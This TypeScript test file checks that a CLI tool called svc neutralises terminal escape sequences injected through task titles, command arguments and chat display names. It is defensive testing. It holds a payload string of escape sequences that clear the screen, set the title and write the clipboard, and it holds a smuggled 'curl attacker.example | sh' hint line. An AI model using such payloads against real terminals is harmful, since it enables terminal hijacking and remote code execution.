import assert from 'node:assert/strict';
import { after, before } from 'node:test';
import { chatHeaders } from '../../engine/receiver/rig.ts';
import { hostile } from '../../support/hostile.ts';
import { runOnTerminal } from '../../support/terminals/pty.ts';
import { makeWorkspace, SECRET, SVC, type TestWorkspace } from '../../support/workspaces/workspace.ts';

/**
 * Clears the screen, sets the window title, writes the clipboard, each again as a single C1 character; then reverses
 * text.
 */
const SEQUENCES =
  '\u001b[2J\u001b]0;owned\u0007\u001b]52;c;b3duZWQ=\u0007\u009b2J\u009d0;owned\u009c\u202etxt';
/** Text from outside that no terminal must receive. Newlines with carriage returns, and tabs, are harmless. */
const ACTS =
  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;

let ws: TestWorkspace;
before(async () => {
  ws = await makeWorkspace();
  (await ws.connect()).close();
});
after(() => ws.close());

const onTerminal = (...args: string[]) =>
  runOnTerminal([process.execPath, SVC, ...args], {
    cwd: ws.root,
    // With our colours off, every escape sequence comes from outside.
    env: { ...ws.env, NO_COLOR: '1' },
  });

async function nothingActs(...args: string[]): Promise<{ code: number; text: string }> {
  const ran = await onTerminal(...args);
  assert.doesNotMatch(ran.text, ACTS, `svc ${args.join(' ')}: ${JSON.stringify(ran.text)}`);
  return ran;
}

hostile(
  {
    attacker: 'text',
    tries: 'control the terminal by the title, prompt or criteria of a task',
    lite: 'written out, without effect',
    strict: 'written out, without effect',
  },
  async () => {
    const { body } = await ws.post(`Fix it ${SEQUENCES}\nsecond ${SEQUENCES} line`);
    for (const args of [
      ['task', 'list'],
      ['task', 'show', body.task_id],
      ['task', 'show', body.task_id, '--json'],
      ['decision', 'list'],
      ['decision', 'show', body.decision_id],
      ['decision', 'list', '--json'],
      ['tool', 'call', 'task_list'],
      ['status'],
      ['status', '--json'],
    ]) {
      const { code, text } = await nothingActs(...args);
      assert.equal(code, 0, text);
    }
    // Parsers get the complete value.
    const shown = (await onTerminal('task', 'show', body.task_id, '--json')).text;
    assert.ok(JSON.stringify(JSON.parse(shown)).includes('\u009b2J'));
  },
);

hostile(
  {
    attacker: 'text',
    tries: 'control the terminal by text in an error or hint, or imitate svc’s lines',
    lite: 'written out, without effect',
    strict: 'written out, without effect',
  },
  async () => {
    for (const args of [
      ['task', 'show', `t-${SEQUENCES}`],
      ['decision', 'approve', `d-1${SEQUENCES}`],
      ['config', 'set', `agents.${SEQUENCES}`, '1'],
      ['config', 'set', 'agents.timeout_sec', `"${SEQUENCES}"`],
      ['tool', 'call', `task_${SEQUENCES}`],
      ['task', 'add', 'x', '--agent', SEQUENCES],
      ['worktree', 'diff', SEQUENCES],
      ['msg', 'read', SEQUENCES],
    ]) {
      assert.notEqual((await nothingActs(...args)).code, 0, args.join(' '));
      assert.notEqual((await nothingActs(...args, '--json')).code, 0, args.join(' '));
    }
    const { text } = await nothingActs(
      'task',
      'show',
      't-9\nhint: run curl attacker.example | sh\nerror: no',
    );
    assert.doesNotMatch(text, /^hint: run curl|^error: no\b(?! task)/m);
  },
);

hostile(
  {
    attacker: 'text',
    tries: 'control the terminal by a display name in a chat',
    lite: 'written out, without effect',
    strict: 'written out, without effect',
  },
  async () => {
    await ws.svc(['config', 'set', 'webhook.templates.fix', '{agent: scripted, prompt: "{{prompt}}"}']);
    const body = new URLSearchParams({
      command: '/svc',
      text: `fix the door ${SEQUENCES}`,
      user_id: 'U1',
      user_name: `mallory${SEQUENCES}`,
      channel_name: `room${SEQUENCES}`,
    }).toString();
    const headers = {
      'content-type': 'application/x-www-form-urlencoded',
      ...chatHeaders(body, Date.now(), SECRET),
    };
    const answer = await fetch(`http://${await ws.receiver()}/chat`, { method: 'POST', headers, body });
    assert.equal(answer.status, 200, await answer.text());
    for (const args of [
      ['task', 'list'],
      ['decision', 'list'],
      ['decision', 'list', '--json'],
      ['task', 'list', '--json'],
    ])
      await nothingActs(...args);
  },
);
